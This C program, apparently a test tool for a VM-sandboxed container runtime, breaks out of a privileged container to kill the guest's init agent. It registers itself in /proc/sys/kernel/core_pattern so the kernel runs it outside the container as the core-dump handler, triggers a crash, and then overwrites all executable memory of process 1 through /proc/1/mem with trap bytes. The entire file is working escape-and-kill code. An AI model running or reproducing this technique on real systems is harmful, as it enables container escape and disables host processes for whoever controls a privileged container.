/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Ends the guest's agent from a privileged container, by a fault of its own: no signal reaches the first process of a machine, kill -9 neither.
 *
 *   kill_agent SELF FILE    SELF: this program's path as the guest's kernel sees it. When FILE is there, the kernel runs it outside of the
 *                           container, as what takes core dumps, and a process dies for that
 *   kill_agent              run so: fills the code of process 1 with a trap
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static int fail(const char *what)
{
	perror(what);
	return 1;
}

static int spoil(void)
{
	unsigned long long from, to;
	FILE *maps = fopen("/proc/1/maps", "r");
	int mem = open("/proc/1/mem", O_WRONLY);
	char line[400], rights[8], traps[4096];

	if (!maps || mem < 0)
		return fail("/proc/1");
	memset(traps, 0xcc, sizeof(traps));
	while (fgets(line, sizeof(line), maps)) {
		if (sscanf(line, "%llx-%llx %7s", &from, &to, rights) != 3 || rights[2] != 'x' || strstr(line, "[v"))
			continue;
		for (; from < to; from += sizeof(traps))
			if (pwrite(mem, traps, sizeof(traps), (off_t)from) < 0)
				return fail("write to /proc/1/mem");
	}
	return 0;
}

int main(int argc, char **argv)
{
	char pattern[200];
	int fd, status;

	if (argc == 1)
		return spoil();
	if (argc != 3)
		return 2;
	fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
	(void)snprintf(pattern, sizeof(pattern), "|%s", argv[1]);
	if (fd < 0 || write(fd, pattern, strlen(pattern)) < 0)
		return fail("core_pattern");
	(void)puts("ready");
	(void)fflush(stdout);
	while (access(argv[2], F_OK) < 0)
		(void)usleep(20000);
	if (fork() == 0)
		abort();
	(void)wait(&status);
	(void)puts("done");
	(void)fflush(stdout);
	for (;;)
		(void)pause();
}
